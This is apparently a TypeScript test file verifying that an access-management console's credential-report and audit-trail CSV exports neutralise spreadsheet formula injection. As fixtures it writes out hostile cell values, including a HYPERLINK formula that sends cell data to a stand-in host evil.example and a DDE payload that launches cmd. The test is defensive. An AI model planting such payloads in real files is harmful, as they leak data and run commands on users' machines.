import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHarness, type Agent, type Harness } from './harness.js';

/** RFC 4180 as a spreadsheet reads it: the cells of each record. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('CSV exports neutralise hostile cells (formula injection)', () => {
  let h: Harness;
  let admin: Agent;
  const HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
  beforeAll(async () => {
    h = await startHarness();
    admin = await h.signedIn('admin');
    // RAM allows "-" first in user names, "@" and "-" in display names (no "=" or tab there); the
    // console's key descriptions are free text (trimmed: no leading tab or CR reaches a cell, the
    // contracts' unit test covers those).
    for (const [userName, displayName] of [
      ['-evil', '@SUM 1'],
      ['-dash', '-2 x'],
    ]) {
      const res = await admin.request('POST', '/api/users', { body: { userName, displayName } });
      expect(res.status, res.text).toBe(201);
    }
    for (const [userName, description] of [
      ['-evil', HOSTILE_DESCRIPTION],
      ['-dash', '+cmd|" /C calc"!A0'],
    ]) {
      const { accessKeyId } = (await h.app.services.ram.createAccessKey(userName)).value;
      const described = await admin.request(
        'PATCH',
        `/api/users/${encodeURIComponent(userName)}/access-keys/${accessKeyId}`,
        { body: { description } },
      );
      expect(described.status, described.text).toBe(204);
    }
  });
  afterAll(async () => {
    await h?.close();
  });

  it('credential report: no cell a spreadsheet would run', async () => {
    const res = await admin.request('GET', '/api/reports/credentials.csv');
    expect(res.status).toBe(200);
    const rows = parseCsv(res.text);
    const cells = rows.flat();
    expect(cells.filter(runsAsFormula)).toEqual([]);
    expect(cells).toEqual(
      expect.arrayContaining([
        "'-evil",
        "'@SUM 1",
        `'${HOSTILE_DESCRIPTION}`,
        "'-dash",
        "'-2 x",
        '\'+cmd|" /C calc"!A0',
      ]),
    );
  });

  it('audit trail: the same rule', async () => {
    const res = await admin.request('GET', '/api/audit-events.csv');
    expect(res.status).toBe(200);
    const cells = parseCsv(res.text).flat();
    expect(cells.filter(runsAsFormula)).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(["'-evil", "'-dash"]));
  });
});
